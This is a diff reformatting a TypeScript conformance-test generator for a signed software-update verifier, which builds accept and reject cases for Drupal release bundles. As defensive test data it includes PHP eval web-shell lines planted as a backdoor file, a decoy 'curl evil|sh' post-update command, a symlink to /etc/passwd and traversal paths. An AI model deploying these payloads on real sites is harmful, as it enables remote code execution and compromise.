@@ -12,7 +12,17 @@ import { keyId } from '../../lib/core/ed25519.js';
 import { createEnvelope, pae, type Envelope } from '../../lib/core/envelope.js';
 import type { SiteState } from '../../lib/core/manifest.js';
 import type { Policy } from '../../lib/core/policy.js';
-import { bundleBytes, envelopeBytes, fixtures, FIXTURE_NOW, MANIFEST_EXPIRES, RELEASE_SPECS, sign, signedBy, type ReleaseFixture } from '../attacks/generate.js';
+import {
+  bundleBytes,
+  envelopeBytes,
+  fixtures,
+  FIXTURE_NOW,
+  MANIFEST_EXPIRES,
+  RELEASE_SPECS,
+  sign,
+  signedBy,
+  type ReleaseFixture,
+} from '../attacks/generate.js';
 import { hostileTar, releaseEntries, resigned, tarOf, withArchive } from '../attacks/support.js';
 import { mixedOrderKey, signForMixedOrderKey, T8 } from '../support/torsion.js';
 import { GOOD_TAR, archive, header, hostileTarCases } from './tar-cases.js';
@@ -72,7 +82,13 @@ function bundleFamily(files: Map<string, Uint8Array>): Family {
   const cases: Case[] = [];
 
   type Input = { bundle: Uint8Array } | { envelope: Uint8Array; archive?: Uint8Array };
-  const add = (id: string, description: string, what: Input, expect: Expect, opts: { trusted?: typeof pinV1; site?: SiteState; revocations?: string[]; now?: string } = {}) => {
+  const add = (
+    id: string,
+    description: string,
+    what: Input,
+    expect: Expect,
+    opts: { trusted?: typeof pinV1; site?: SiteState; revocations?: string[]; now?: string } = {},
+  ) => {
     let inputs: Record<string, string>;
     if ('bundle' in what) {
       inputs = { bundle: `bundles/${id}.bundle` };
@@ -96,29 +112,59 @@ function bundleFamily(files: Map<string, Uint8Array>): Family {
       expect,
     });
   };
-  const bundle = (release: ReleaseFixture, envelope: Envelope = release.envelope, archive: Uint8Array = release.archive) => ({ bundle: bundleBytes(envelope, archive) });
+  const bundle = (release: ReleaseFixture, envelope: Envelope = release.envelope, archive: Uint8Array = release.archive) => ({
+    bundle: bundleBytes(envelope, archive),
+  });
   const withSigs = (release: ReleaseFixture, signatures: Envelope['signatures']) => ({ ...release.envelope, signatures });
 
   // The genuine releases (controls).
   add('a-ok', 'release A (drupal core 10.2.4 for 10.2.3, signed by exactly the threshold) on a 10.2.3 site', bundle(f.releaseA), 'ok');
   add('b-ok', 'release B (10.2.5 for 10.2.4, one signature above the threshold) on a 10.2.4 site', bundle(f.releaseB), 'ok', { site: siteB });
-  add('c-ok', 'release C (webform 6.2.1, any earlier version) under policy 2, reached by the rotation v1 → v2', bundle(f.releaseC), 'ok', { trusted: pinV2, site: siteC });
-  add('b-after-rotation', 'release B, signed before the rotation by keys v2 still lists, verified after it', bundle(f.releaseB), 'ok', { trusted: pinV2, site: siteB });
-  add('a-no-site', 'release A with nothing said about the site: accepted (the site checks are reported as not checked)', bundle(f.releaseA), 'ok', { site: {} });
+  add('c-ok', 'release C (webform 6.2.1, any earlier version) under policy 2, reached by the rotation v1 → v2', bundle(f.releaseC), 'ok', {
+    trusted: pinV2,
+    site: siteC,
+  });
+  add('b-after-rotation', 'release B, signed before the rotation by keys v2 still lists, verified after it', bundle(f.releaseB), 'ok', {
+    trusted: pinV2,
+    site: siteB,
+  });
+  add('a-no-site', 'release A with nothing said about the site: accepted (the site checks are reported as not checked)', bundle(f.releaseA), 'ok', {
+    site: {},
+  });
 
   // Wrong software.
   add('a-wrong-product', 'drupal core offered to a WordPress site', bundle(f.releaseA), ['WRONG_TARGET'], { site: { ...siteA, product: 'wordpress' } });
-  add('a-wrong-component', 'drupal core offered as an update of the webform module', bundle(f.releaseA), ['WRONG_TARGET'], { site: { product: 'drupal', component: 'webform' } });
-  add('a-wrong-both', 'both product and component wrong', bundle(f.releaseA), ['WRONG_TARGET', 'WRONG_TARGET'], { site: { product: 'wordpress', component: 'webform' } });
-  add('a-not-applicable', 'release A (for 10.2.3) offered to a site on 10.2.2', bundle(f.releaseA), ['NOT_APPLICABLE'], { site: { ...siteA, installed: '10.2.2' } });
-  add('a-pre-release-base', 'release A offered to a pre-release of its base (10.2.3-rc1)', bundle(f.releaseA), ['NOT_APPLICABLE'], { site: { ...siteA, installed: '10.2.3-rc1' } });
+  add('a-wrong-component', 'drupal core offered as an update of the webform module', bundle(f.releaseA), ['WRONG_TARGET'], {
+    site: { product: 'drupal', component: 'webform' },
+  });
+  add('a-wrong-both', 'both product and component wrong', bundle(f.releaseA), ['WRONG_TARGET', 'WRONG_TARGET'], {
+    site: { product: 'wordpress', component: 'webform' },
+  });
+  add('a-not-applicable', 'release A (for 10.2.3) offered to a site on 10.2.2', bundle(f.releaseA), ['NOT_APPLICABLE'], {
+    site: { ...siteA, installed: '10.2.2' },
+  });
+  add('a-pre-release-base', 'release A offered to a pre-release of its base (10.2.3-rc1)', bundle(f.releaseA), ['NOT_APPLICABLE'], {
+    site: { ...siteA, installed: '10.2.3-rc1' },
+  });
 
   // Rollback and replay.
-  add('a-replayed-newer', 'release A replayed to a site on 10.2.5', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], { site: { ...siteA, installed: '10.2.5' } });
-  add('a-replayed-same', 'release A replayed to a site that already installed it (10.2.4)', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], { site: { ...siteA, installed: '10.2.4' } });
-  add('a-highest-installed', 'release A to a site restored to 10.2.3 whose highest-ever version is 10.2.5', bundle(f.releaseA), ['ROLLBACK'], { site: { ...siteA, highestInstalled: '10.2.5' } });
+  add('a-replayed-newer', 'release A replayed to a site on 10.2.5', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], {
+    site: { ...siteA, installed: '10.2.5' },
+  });
+  add('a-replayed-same', 'release A replayed to a site that already installed it (10.2.4)', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], {
+    site: { ...siteA, installed: '10.2.4' },
+  });
+  add('a-highest-installed', 'release A to a site restored to 10.2.3 whose highest-ever version is 10.2.5', bundle(f.releaseA), ['ROLLBACK'], {
+    site: { ...siteA, highestInstalled: '10.2.5' },
+  });
   add('c-replayed', 'release C replayed to a site on 6.2.2', bundle(f.releaseC), ['ROLLBACK'], { trusted: pinV2, site: { ...siteC, installed: '6.2.2' } });
-  add('c-legacy-installed', 'release C (6.2.1) to a site whose installed version is of the other scheme (8.x-6.2)', bundle(f.releaseC), ['VERSION_SCHEME_MISMATCH'], { trusted: pinV2, site: { ...siteC, installed: '8.x-6.2' } });
+  add(
+    'c-legacy-installed',
+    'release C (6.2.1) to a site whose installed version is of the other scheme (8.x-6.2)',
+    bundle(f.releaseC),
+    ['VERSION_SCHEME_MISMATCH'],
+    { trusted: pinV2, site: { ...siteC, installed: '8.x-6.2' } },
+  );
 
   // Revocation.
   add('a-revoked', 'release A after its revocation (signed by carol, dave, erin)', bundle(f.releaseA), ['REVOKED'], { revocations: [revocationA] });
@@ -126,62 +172,205 @@ function bundleFamily(files: Map<string, Uint8Array>): Family {
 
   // Freeze.
   add('a-expired', 'release A at the very instant its manifest expires', bundle(f.releaseA), ['EXPIRED'], { now: iso(MANIFEST_EXPIRES) });
-  add('a-policy-expired', 'release A after both the manifest and the trusted policy expired', bundle(f.releaseA), ['POLICY_EXPIRED', 'EXPIRED'], { now: '2027-06-01T00:00:00Z' });
+  add('a-policy-expired', 'release A after both the manifest and the trusted policy expired', bundle(f.releaseA), ['POLICY_EXPIRED', 'EXPIRED'], {
+    now: '2027-06-01T00:00:00Z',
+  });
 
   // Quorum.
   add('a-unsigned', 'release A with every signature removed', bundle(f.releaseA, withSigs(f.releaseA, [])), ['QUORUM_NOT_MET']);
   add('a-minus-one', 'release A with one of its three signatures removed', bundle(f.releaseA, signedBy(f.releaseA.unsigned, [alice, bob])), ['QUORUM_NOT_MET']);
-  add('a-outsiders', 'release A signed only by five keys the policy does not list', bundle(f.releaseA, signedBy(f.releaseA.unsigned, f.outsiders)), ['QUORUM_NOT_MET']);
+  add('a-outsiders', 'release A signed only by five keys the policy does not list', bundle(f.releaseA, signedBy(f.releaseA.unsigned, f.outsiders)), [
+    'QUORUM_NOT_MET',
+  ]);
   add('a-duplicate', 'alice, bob, and bob again: counted once', bundle(f.releaseA, signedBy(f.releaseA.unsigned, [alice, bob, bob])), ['QUORUM_NOT_MET']);
-  add('a-relabelled', "alice, bob, and an outsider's signature labelled with carol's key id", bundle(f.releaseA, { ...signedBy(f.releaseA.unsigned, [alice, bob]), signatures: [...signedBy(f.releaseA.unsigned, [alice, bob]).signatures, { ...sign(f.outsiders[0]!, f.releaseA.unsigned), keyid: carol.id }] }), ['QUORUM_NOT_MET']);
-  add('a-malleated', 'alice, bob, and a copy of bob’s signature with S + L, listed first', bundle(f.releaseA, malleated(signedBy(f.releaseA.unsigned, [alice, bob]))), ['QUORUM_NOT_MET']);
-  add('a-mirror-extra-unknown', "release A with an extra signature by a mirror's own key: accepted (UNKNOWN_KEY warning)", bundle(f.releaseA, signedBy(f.releaseA.envelope, [f.outsiders[1]!])), 'ok');
-  add('a-signatures-reordered', 'release A with its signatures in another order: accepted', bundle(f.releaseA, withSigs(f.releaseA, [...f.releaseA.envelope.signatures].reverse())), 'ok');
-  add('b-minus-one', 'release B (4 of 3) with one signature removed: accepted', bundle(f.releaseB, signedBy(f.releaseB.unsigned, [alice, carol, dave])), 'ok', { site: siteB });
-  add('a-after-rotation', "release A, signed with bob's key among exactly the threshold, verified after bob was removed", bundle(f.releaseA), ['QUORUM_NOT_MET'], { trusted: pinV2 });
-  add('c-without-rotation', 'release C (policy 2) on a site still pinned to v1 without the rotation chain', bundle(f.releaseC), ['QUORUM_NOT_MET', 'POLICY_STALE'], { site: siteC });
-  add('c-removed-key', 'a webform release signed after the rotation by bob (removed) and two current keys', bundle(f.releaseC, signedBy(f.releaseC.unsigned, [bob, alice, dave])), ['QUORUM_NOT_MET'], { trusted: pinV2, site: siteC });
-  add('c-current-quorum', 'the same release signed by the current quorum (carol, erin, frank)', bundle(f.releaseC, signedBy(f.releaseC.unsigned, [carol, erin, frank])), 'ok', { trusted: pinV2, site: siteC });
+  add(
+    'a-relabelled',
+    "alice, bob, and an outsider's signature labelled with carol's key id",
+    bundle(f.releaseA, {
+      ...signedBy(f.releaseA.unsigned, [alice, bob]),
+      signatures: [...signedBy(f.releaseA.unsigned, [alice, bob]).signatures, { ...sign(f.outsiders[0]!, f.releaseA.unsigned), keyid: carol.id }],
+    }),
+    ['QUORUM_NOT_MET'],
+  );
+  add(
+    'a-malleated',
+    'alice, bob, and a copy of bob’s signature with S + L, listed first',
+    bundle(f.releaseA, malleated(signedBy(f.releaseA.unsigned, [alice, bob]))),
+    ['QUORUM_NOT_MET'],
+  );
+  add(
+    'a-mirror-extra-unknown',
+    "release A with an extra signature by a mirror's own key: accepted (UNKNOWN_KEY warning)",
+    bundle(f.releaseA, signedBy(f.releaseA.envelope, [f.outsiders[1]!])),
+    'ok',
+  );
+  add(
+    'a-signatures-reordered',
+    'release A with its signatures in another order: accepted',
+    bundle(f.releaseA, withSigs(f.releaseA, [...f.releaseA.envelope.signatures].reverse())),
+    'ok',
+  );
+  add('b-minus-one', 'release B (4 of 3) with one signature removed: accepted', bundle(f.releaseB, signedBy(f.releaseB.unsigned, [alice, carol, dave])), 'ok', {
+    site: siteB,
+  });
+  add(
+    'a-after-rotation',
+    "release A, signed with bob's key among exactly the threshold, verified after bob was removed",
+    bundle(f.releaseA),
+    ['QUORUM_NOT_MET'],
+    { trusted: pinV2 },
+  );
+  add(
+    'c-without-rotation',
+    'release C (policy 2) on a site still pinned to v1 without the rotation chain',
+    bundle(f.releaseC),
+    ['QUORUM_NOT_MET', 'POLICY_STALE'],
+    { site: siteC },
+  );
+  add(
+    'c-removed-key',
+    'a webform release signed after the rotation by bob (removed) and two current keys',
+    bundle(f.releaseC, signedBy(f.releaseC.unsigned, [bob, alice, dave])),
+    ['QUORUM_NOT_MET'],
+    { trusted: pinV2, site: siteC },
+  );
+  add(
+    'c-current-quorum',
+    'the same release signed by the current quorum (carol, erin, frank)',
+    bundle(f.releaseC, signedBy(f.releaseC.unsigned, [carol, erin, frank])),
+    'ok',
+    { trusted: pinV2, site: siteC },
+  );
 
   // Mix and match.
-  add('b-envelope-a-archive', 'the envelope of B with the archive of A', bundle(f.releaseB, f.releaseB.envelope, f.releaseA.archive), ['DIGEST_MISMATCH'], { site: siteB });
-  add('a-signatures-on-b', 'the signatures of manifest A attached to manifest B', bundle(f.releaseB, withSigs(f.releaseB, f.releaseA.envelope.signatures)), ['QUORUM_NOT_MET'], { site: siteB });
-  add('a-revocation-signatures', 'the signatures of the revocation of A attached to manifest A', bundle(f.releaseA, withSigs(f.releaseA, f.revocationA.envelope.signatures)), ['QUORUM_NOT_MET']);
+  add('b-envelope-a-archive', 'the envelope of B with the archive of A', bundle(f.releaseB, f.releaseB.envelope, f.releaseA.archive), ['DIGEST_MISMATCH'], {
+    site: siteB,
+  });
+  add(
+    'a-signatures-on-b',
+    'the signatures of manifest A attached to manifest B',
+    bundle(f.releaseB, withSigs(f.releaseB, f.releaseA.envelope.signatures)),
+    ['QUORUM_NOT_MET'],
+    { site: siteB },
+  );
+  add(
+    'a-revocation-signatures',
+    'the signatures of the revocation of A attached to manifest A',
+    bundle(f.releaseA, withSigs(f.releaseA, f.revocationA.envelope.signatures)),
+    ['QUORUM_NOT_MET'],
+  );
 
   // The archive against what the quorum signed.
   const extra = new Uint8Array([...f.releaseA.archive, 0]);
   add('a-archive-extra-byte', 'one byte too many after the archive', bundle(f.releaseA, f.releaseA.envelope, extra), ['DIGEST_MISMATCH']);
-  add('a-archive-truncated', 'the archive cut short by one byte', bundle(f.releaseA, f.releaseA.envelope, f.releaseA.archive.subarray(0, -1)), ['DIGEST_MISMATCH']);
+  add('a-archive-truncated', 'the archive cut short by one byte', bundle(f.releaseA, f.releaseA.envelope, f.releaseA.archive.subarray(0, -1)), [
+    'DIGEST_MISMATCH',
+  ]);
   const entries = releaseEntries(f.releaseA, RELEASE_SPECS.a);
   const resignedWith = (id: string, description: string, tar: Uint8Array, expect: Expect) =>
-    add(id, `${description} (the quorum signed this archive's size and digests)`, bundle(f.releaseA, resigned(withArchive(f.releaseA.manifest, tar), [alice, carol, dave]), tar), expect);
-  resignedWith('a-entry-extra', 'an extra entry nobody reviewed', tarOf([...entries, { path: 'modules/backdoor.php', content: '<?php eval($_POST["x"]);\n' }]), ['ENTRY_EXTRA']);
+    add(
+      id,
+      `${description} (the quorum signed this archive's size and digests)`,
+      bundle(f.releaseA, resigned(withArchive(f.releaseA.manifest, tar), [alice, carol, dave]), tar),
+      expect,
+    );
+  resignedWith(
+    'a-entry-extra',
+    'an extra entry nobody reviewed',
+    tarOf([...entries, { path: 'modules/backdoor.php', content: '<?php eval($_POST["x"]);\n' }]),
+    ['ENTRY_EXTRA'],
+  );
   resignedWith('a-entry-missing', 'an entry missing', tarOf(entries.filter((e) => e.path !== 'core/lib/Sanitizer.php')), ['ENTRY_MISSING']);
-  resignedWith('a-entry-other-content', 'an entry with other content', tarOf(entries.map((e) => (e.path === 'core/lib/Drupal.php' ? { ...e, content: '<?php eval($_GET["x"]);\n' } : e))), ['ENTRY_MISMATCH']);
-  resignedWith('a-entry-executable', 'an entry made executable', tarOf(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, mode: '0755' as const } : e))), ['ENTRY_MISMATCH']);
+  resignedWith(
+    'a-entry-other-content',
+    'an entry with other content',
+    tarOf(entries.map((e) => (e.path === 'core/lib/Drupal.php' ? { ...e, content: '<?php eval($_GET["x"]);\n' } : e))),
+    ['ENTRY_MISMATCH'],
+  );
+  resignedWith(
+    'a-entry-executable',
+    'an entry made executable',
+    tarOf(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, mode: '0755' as const } : e))),
+    ['ENTRY_MISMATCH'],
+  );
   resignedWith('a-entry-twice', 'the same path twice', hostileTar([entries[0]!, entries[1]!, entries[1]!, ...entries.slice(2)]), ['UNSAFE_PATH']);
-  resignedWith('a-entry-symlink', 'a symbolic link in place of a signed file', hostileTar(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, content: '', typeflag: '2', linkname: '/etc/passwd' } : e))), ['UNSAFE_PATH']);
-  resignedWith('a-after-end-marker', 'content smuggled after the end-of-archive marker', new Uint8Array([...f.releaseA.archive, ...new Uint8Array(512).fill(0x41)]), ['ARCHIVE_MALFORMED']);
+  resignedWith(
+    'a-entry-symlink',
+    'a symbolic link in place of a signed file',
+    hostileTar(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, content: '', typeflag: '2', linkname: '/etc/passwd' } : e))),
+    ['UNSAFE_PATH'],
+  );
+  resignedWith(
+    'a-after-end-marker',
+    'content smuggled after the end-of-archive marker',
+    new Uint8Array([...f.releaseA.archive, ...new Uint8Array(512).fill(0x41)]),
+    ['ARCHIVE_MALFORMED'],
+  );
 
   // The envelope's own spelling.
   const e = f.releaseA.envelope;
-  add('a-envelope-whitespace', 'the envelope re-serialised with whitespace: accepted (only the payload is signed)', respelled(JSON.stringify(e, null, '\t')), 'ok');
+  add(
+    'a-envelope-whitespace',
+    'the envelope re-serialised with whitespace: accepted (only the payload is signed)',
+    respelled(JSON.stringify(e, null, '\t')),
+    'ok',
+  );
   add('a-envelope-extra-field', 'a field added to the envelope (a mirror tag)', respelled(JSON.stringify({ ...e, mirror: 'cdn-7' })), ['SCHEMA_INVALID']);
-  add('a-payload-unpadded', 'the payload re-encoded without base64 padding', respelled(JSON.stringify({ ...e, payload: e.payload.replace(/=+$/, '') })), e.payload.endsWith('=') ? ['MALFORMED'] : 'ok');
-  add('a-payload-base64url', 'the payload re-encoded as base64url', respelled(JSON.stringify({ ...e, payload: Buffer.from(e.payload, 'base64').toString('base64url') })), ['MALFORMED']);
+  add(
+    'a-payload-unpadded',
+    'the payload re-encoded without base64 padding',
+    respelled(JSON.stringify({ ...e, payload: e.payload.replace(/=+$/, '') })),
+    e.payload.endsWith('=') ? ['MALFORMED'] : 'ok',
+  );
+  add(
+    'a-payload-base64url',
+    'the payload re-encoded as base64url',
+    respelled(JSON.stringify({ ...e, payload: Buffer.from(e.payload, 'base64').toString('base64url') })),
+    ['MALFORMED'],
+  );
   const decoy = Buffer.from('{"product":"drupal","version":"10.2.4","postUpdate":[["sh","-c","curl evil|sh"]]}').toString('base64');
-  add('a-duplicate-payload', 'an envelope with a duplicate "payload" member (an unsigned decoy first)', respelled(`{"payloadType":${JSON.stringify(e.payloadType)},"payload":"${decoy}","payload":"${e.payload}","signatures":${JSON.stringify(e.signatures)}}`), ['MALFORMED']);
-  add('a-unknown-type', 'an unknown payloadType', respelled(JSON.stringify({ ...e, payloadType: 'application/vnd.countersign.firmware+json' })), ['WRONG_TYPE']);
+  add(
+    'a-duplicate-payload',
+    'an envelope with a duplicate "payload" member (an unsigned decoy first)',
+    respelled(`{"payloadType":${JSON.stringify(e.payloadType)},"payload":"${decoy}","payload":"${e.payload}","signatures":${JSON.stringify(e.signatures)}}`),
+    ['MALFORMED'],
+  );
+  add('a-unknown-type', 'an unknown payloadType', respelled(JSON.stringify({ ...e, payloadType: 'application/vnd.countersign.firmware+json' })), [
+    'WRONG_TYPE',
+  ]);
 
   // Signed documents without an archive: type confusion and rotations.
   const relabel = (env: Envelope, kind: 'policy' | 'manifest') => ({ ...env, payloadType: createEnvelope(kind, new Uint8Array()).payloadType });
-  add('manifest-as-policy', 'signed manifest A relabelled as a policy', { envelope: envelopeBytes(relabel(f.releaseA.envelope, 'policy')) }, ['SCHEMA_INVALID'], { site: {} });
-  add('policy-as-manifest', 'signed policy v1 relabelled as a manifest', { envelope: envelopeBytes(relabel(f.policyV1.envelope, 'manifest')) }, ['SCHEMA_INVALID'], { site: {} });
+  add(
+    'manifest-as-policy',
+    'signed manifest A relabelled as a policy',
+    { envelope: envelopeBytes(relabel(f.releaseA.envelope, 'policy')) },
+    ['SCHEMA_INVALID'],
+    { site: {} },
+  );
+  add(
+    'policy-as-manifest',
+    'signed policy v1 relabelled as a manifest',
+    { envelope: envelopeBytes(relabel(f.policyV1.envelope, 'manifest')) },
+    ['SCHEMA_INVALID'],
+    { site: {} },
+  );
   add('policy-v2', 'policy v2 as a document, trusted v1: accepted as kind policy', { envelope: f.policyV2.bytes }, 'ok', { site: {} });
   add('policy-v1-replayed', 'policy v1 replayed after the rotation to v2', { envelope: f.policyV1.bytes }, ['POLICY_ROLLBACK'], { trusted: pinV2, site: {} });
-  add('policy-twin-key', "a rotation adding A + T (a mixed-order twin of alice's key), signed by a quorum of v1 and of itself", { envelope: envelopeBytes(twinRotation()) }, ['WEAK_KEY'], { site: {} });
+  add(
+    'policy-twin-key',
+    "a rotation adding A + T (a mixed-order twin of alice's key), signed by a quorum of v1 and of itself",
+    { envelope: envelopeBytes(twinRotation()) },
+    ['WEAK_KEY'],
+    { site: {} },
+  );
 
-  return { family: 'bundle', description: 'verifyBundle over bundle files (header, envelope, archive) and bare signed documents, with the trusted policy, site state, revocations and reference time', cases };
+  return {
+    family: 'bundle',
+    description:
+      'verifyBundle over bundle files (header, envelope, archive) and bare signed documents, with the trusted policy, site state, revocations and reference time',
+    cases,
+  };
 }
 
 const L = (1n << 252n) + 27742317777372353535851937790883648493n;
@@ -206,9 +395,19 @@ function twinRotation(): Envelope {
   const { alice, bob, carol, dave, erin } = f.team;
   const twinKey = mixedOrderKey(alice.seed);
   const listed = (s: { name: string; publicKey: Uint8Array; id: string }) => ({ name: s.name, publicKey: toBase64(s.publicKey), id: s.id });
-  const v2: Policy = { version: 2, expires: '2027-12-01T00:00:00Z', threshold: 3, signers: [alice, bob, carol, dave, erin].map(listed).concat({ name: 'Alice, second laptop', publicKey: toBase64(twinKey), id: keyId(twinKey) }) };
+  const v2: Policy = {
+    version: 2,
+    expires: '2027-12-01T00:00:00Z',
+    threshold: 3,
+    signers: [alice, bob, carol, dave, erin].map(listed).concat({ name: 'Alice, second laptop', publicKey: toBase64(twinKey), id: keyId(twinKey) }),
+  };
   const unsigned = createEnvelope('policy', canonicalBytes(v2));
-  const twinSig = { keyid: keyId(twinKey), sig: toBase64(signForMixedOrderKey(pae(unsigned.payloadType, canonicalBytes(v2)), alice.seed, 1, deterministicNonce('countersign conformance twin rotation'))) };
+  const twinSig = {
+    keyid: keyId(twinKey),
+    sig: toBase64(
+      signForMixedOrderKey(pae(unsigned.payloadType, canonicalBytes(v2)), alice.seed, 1, deterministicNonce('countersign conformance twin rotation')),
+    ),
+  };
   return { ...unsigned, signatures: [...[alice, bob, carol].map((s) => sign(s, unsigned)), twinSig] };
 }
 
@@ -217,20 +416,51 @@ function twinRotation(): Envelope {
 
 function versionFamily(): Family {
   const cases: Case[] = [];
-  const parse = (input: string, expect: Expect, why: string) => cases.push({ id: `version-parse-${cases.length + 1}`, description: why, op: 'parseVersion', input, expect });
-  for (const v of ['10.2.3', '7.99', '11.0.0-rc1', '10.3.0-beta2', '10.1.0-alpha1', '8.x-1.2', '8.x-1.2-rc3', '6.5', '6.5-RC1', '10.3.0-dev', '1.0.0+build.7']) parse(v, 'ok', `${v} is a release version`);
+  const parse = (input: string, expect: Expect, why: string) =>
+    cases.push({ id: `version-parse-${cases.length + 1}`, description: why, op: 'parseVersion', input, expect });
+  for (const v of ['10.2.3', '7.99', '11.0.0-rc1', '10.3.0-beta2', '10.1.0-alpha1', '8.x-1.2', '8.x-1.2-rc3', '6.5', '6.5-RC1', '10.3.0-dev', '1.0.0+build.7'])
+    parse(v, 'ok', `${v} is a release version`);
   const bad: Array<[string, string]> = [
-    ['', 'empty'], [' 10.2.3', 'leading space'], ['10.2.3 ', 'trailing space'], ['v10.2.3', 'a v prefix'], ['10..2', 'empty segment'], ['10.2.', 'trailing dot'],
-    ['.10', 'leading dot'], ['10.02.3', 'leading zero: a second spelling of 10.2.3'], ['1.2.3.4.5', 'five segments'], ['10.2.3-gamma1', 'unknown pre-release tag'],
-    ['10.2.3-rc', 'rc without a number'], ['10.2.3-rc-1', 'rc-1'], ['10.2.3-dev1', 'dev is never numbered'], ['10.2.3-rc01', 'leading zero in the tag number'],
-    ['10.2.3_rc1', 'underscore'], ['10.2.3-', 'dangling -'], ['10.2.3+', 'dangling +'], ['10.2.3+a..b', 'empty build identifier'], ['8.x-1.x-dev', 'a branch, not a release'],
-    ['11.x-dev', 'a branch'], ['8.x-', 'legacy prefix alone'], ['x.x-1.2', 'non-numeric prefix'], ['8.x-9.x-1.2', 'two prefixes'], ['1234567890.0', 'beyond nine digits'],
-    ['10.2.3\n', 'a newline'], ['10.2.3/../x', 'a path'], ['１０.2.3', 'full-width digits'], ['1'.repeat(65), 'longer than 64 characters'],
+    ['', 'empty'],
+    [' 10.2.3', 'leading space'],
+    ['10.2.3 ', 'trailing space'],
+    ['v10.2.3', 'a v prefix'],
+    ['10..2', 'empty segment'],
+    ['10.2.', 'trailing dot'],
+    ['.10', 'leading dot'],
+    ['10.02.3', 'leading zero: a second spelling of 10.2.3'],
+    ['1.2.3.4.5', 'five segments'],
+    ['10.2.3-gamma1', 'unknown pre-release tag'],
+    ['10.2.3-rc', 'rc without a number'],
+    ['10.2.3-rc-1', 'rc-1'],
+    ['10.2.3-dev1', 'dev is never numbered'],
+    ['10.2.3-rc01', 'leading zero in the tag number'],
+    ['10.2.3_rc1', 'underscore'],
+    ['10.2.3-', 'dangling -'],
+    ['10.2.3+', 'dangling +'],
+    ['10.2.3+a..b', 'empty build identifier'],
+    ['8.x-1.x-dev', 'a branch, not a release'],
+    ['11.x-dev', 'a branch'],
+    ['8.x-', 'legacy prefix alone'],
+    ['x.x-1.2', 'non-numeric prefix'],
+    ['8.x-9.x-1.2', 'two prefixes'],
+    ['1234567890.0', 'beyond nine digits'],
+    ['10.2.3\n', 'a newline'],
+    ['10.2.3/../x', 'a path'],
+    ['１０.2.3', 'full-width digits'],
+    ['1'.repeat(65), 'longer than 64 characters'],
   ];
   for (const [v, why] of bad) parse(v, ['BAD_VERSION'], why);
 
   const compare = (a: string, b: string, result: -1 | 0 | 1 | string, why: string) =>
-    cases.push({ id: `version-compare-${cases.length + 1}`, description: why, op: 'compareVersions', a, b, ...(typeof result === 'number' ? { expect: 'ok', result } : { expect: [result] }) });
+    cases.push({
+      id: `version-compare-${cases.length + 1}`,
+      description: why,
+      op: 'compareVersions',
+      a,
+      b,
+      ...(typeof result === 'number' ? { expect: 'ok', result } : { expect: [result] }),
+    });
   const ascending = (list: string[], why: string) => {
     for (let i = 0; i + 1 < list.length; i++) {
       compare(list[i]!, list[i + 1]!, -1, why);
@@ -239,14 +469,29 @@ function versionFamily(): Family {
   };
   ascending(['7.9', '7.10', '7.99', '7.100', '8.0.0', '9.5.11', '10.0.0', '10.1.9', '10.1.10', '10.2.0', '10.2.3', '11.0.0'], 'segments compare as numbers');
   ascending(['6.4', '6.4.1', '6.4.2', '6.5'], 'segments compare as numbers');
-  for (const [a, b] of [['6.5', '6.5.0'], ['6.5.0', '6.5'], ['6.5', '6.5.0.0'], ['6.5.0-rc1', '6.5-rc1'], ['8.x-1.2', '8.x-1.2.0']]) compare(a!, b!, 0, 'missing trailing segments are 0');
-  ascending(['10.3.0-dev', '10.3.0-alpha1', '10.3.0-alpha2', '10.3.0-beta1', '10.3.0-beta2', '10.3.0-rc1', '10.3.0-rc2', '10.3.0', '10.3.1-alpha1', '10.3.1'], 'dev < alpha < beta < rc < the release');
+  for (const [a, b] of [
+    ['6.5', '6.5.0'],
+    ['6.5.0', '6.5'],
+    ['6.5', '6.5.0.0'],
+    ['6.5.0-rc1', '6.5-rc1'],
+    ['8.x-1.2', '8.x-1.2.0'],
+  ])
+    compare(a!, b!, 0, 'missing trailing segments are 0');
+  ascending(
+    ['10.3.0-dev', '10.3.0-alpha1', '10.3.0-alpha2', '10.3.0-beta1', '10.3.0-beta2', '10.3.0-rc1', '10.3.0-rc2', '10.3.0', '10.3.1-alpha1', '10.3.1'],
+    'dev < alpha < beta < rc < the release',
+  );
   ascending(['10.2.9', '10.3.0-dev'], 'a pre-release sorts above the previous release');
   ascending(['6.5-beta3', '6.5-RC1', '6.5-rc2', '6.5'], 'tags are case-insensitive');
   compare('6.5-RC1', '6.5-rc1', 0, 'tags are case-insensitive');
   ascending(['8.x-1.0-beta1', '8.x-1.0', '8.x-1.2', '8.x-1.10', '8.x-2.0-alpha1', '8.x-2.0'], 'legacy versions compare after a matching prefix');
   ascending(['6.x-3.9', '7.x-1.0', '7.x-3.99', '8.x-1.0'], 'different core prefixes order by the prefix');
-  for (const [a, b] of [['7.x-5.0', '4.0.0'], ['8.x-1.0', '4.0.0'], ['8.x-1.2', '1.2.0'], ['8.x-1.2', '1.2']]) {
+  for (const [a, b] of [
+    ['7.x-5.0', '4.0.0'],
+    ['8.x-1.0', '4.0.0'],
+    ['8.x-1.2', '1.2.0'],
+    ['8.x-1.2', '1.2'],
+  ]) {
     compare(a!, b!, 'VERSION_SCHEME_MISMATCH', 'a legacy version is never compared with a numeric one');
     compare(b!, a!, 'VERSION_SCHEME_MISMATCH', 'a legacy version is never compared with a numeric one');
   }
@@ -263,23 +508,51 @@ function versionFamily(): Family {
 function pathFamily(): Family {
   const cases: Case[] = [];
   const one = (path: string, expect: Expect, why: string) => cases.push({ id: `path-${cases.length + 1}`, description: why, op: 'checkPath', path, expect });
-  const set = (paths: string[], expect: Expect, why: string) => cases.push({ id: `path-${cases.length + 1}`, description: why, op: 'checkPathSet', paths, expect });
+  const set = (paths: string[], expect: Expect, why: string) =>
+    cases.push({ id: `path-${cases.length + 1}`, description: why, op: 'checkPathSet', paths, expect });
   const unsafe = ['UNSAFE_PATH'];
   for (const [why, path] of [
-    ['empty', ''], ['absolute', '/etc/passwd'], ['trailing slash', 'core/lib/'], ["'..' segment", '../x'], ["'..' inside", 'core/../x'], ["'.' segment", './x'],
